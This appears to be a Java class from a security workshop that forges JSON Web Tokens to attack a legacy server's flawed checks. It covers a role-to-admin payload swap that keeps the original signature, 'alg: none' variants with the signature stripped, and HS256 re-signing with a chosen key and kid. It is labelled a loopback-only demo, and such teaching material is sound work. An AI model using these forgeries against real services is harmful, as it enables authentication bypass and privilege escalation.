package workshop.attacks;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Red team: tokens forged from a real one, for the legacy server's flawed checks (ATTACK DEMO, loopback only). */
public final class Forgery {

    private Forgery() {
    }

    /** A1 · the same token with {@code "role": "admin"} in the payload and the ORIGINAL signature kept. */
    public static String roleAdmin(String token) {
        String[] parts = Jwt.parts(token);
        return parts[0] + "." + adminPayload(token) + "." + parts[2];
    }

    /**
     * A2 · admin tokens that claim to need no signature: {@code alg} set to {@code none}, {@code None}, {@code NONE}
     * and {@code nOnE} (empty signature part), then the real header with the signature stripped — five tokens.
     */
    public static List<String> unsigned(String token) {
        List<String> forged = new ArrayList<>();
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
            header.put("alg", none);
            forged.add(Jwt.part(header) + "." + adminPayload(token) + ".");
        }
        forged.add(Jwt.parts(token)[0] + "." + adminPayload(token) + ".");
        return forged;
    }

    /**
     * A3 · alice's claims with {@code "role": "admin"} in a token signed HS256 with {@code key}: the original header
     * with {@code alg} set to HS256 and {@code headerChanges} applied (e.g. another {@code kid}).
     */
    public static String signedAdmin(String token, Map<String, Object> headerChanges, byte[] key) {
        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
        header.put("alg", "HS256");
        header.putAll(headerChanges);
        String input = Jwt.part(header) + "." + adminPayload(token);
        return input + "." + Jwt.encode(HmacVerifier.hs256(key, input.getBytes(StandardCharsets.US_ASCII)));
    }

    /** The token's payload with role admin, as a base64url part. */
    static String adminPayload(String token) {
        Map<String, Object> claims = Jwt.payload(token);
        claims.put("role", "admin");
        return Jwt.part(claims);
    }
}
